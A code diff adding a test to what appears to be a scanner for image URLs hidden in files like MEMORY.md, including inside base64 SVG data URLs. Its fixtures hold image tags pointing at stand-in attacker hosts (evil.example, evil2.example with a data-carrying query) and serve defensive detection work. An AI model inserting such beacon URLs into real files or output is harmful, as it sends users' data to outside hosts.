@@ -106,3 +106,17 @@ def test_css_read_inside_a_data_url_is_charged_to_the_texts_budget(kind) -> None
     seen = fetched.read(text, 0, spent)
     assert seen.unread == 0
     assert not [f for f in seen.fetches if f.host == "evil.example"]
+
+
+def test_a_tags_own_url_after_a_nested_documents_is_placed_where_written() -> None:
+    """A nested document's URLs, written nowhere, are placed with a cursor of their own: the
+    tag's own URL after them is still found where it is written, a finding of its own."""
+    document = (
+        '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/a"/></svg>'
+    )
+    data = _base64("image/svg+xml", document)
+    text = f'<img src="{data}" srcset="https://evil2.example/x?d=1 1x">\n'
+    with memo.uncached():
+        answer = Project.load(EXAMPLE).check({"MEMORY.md": text})
+    columns = {f["column"] for f in answer.to_json()["findings"] if f["rule"] == "image-url-data"}
+    assert columns == {1, text.index("https://evil2") + 1}
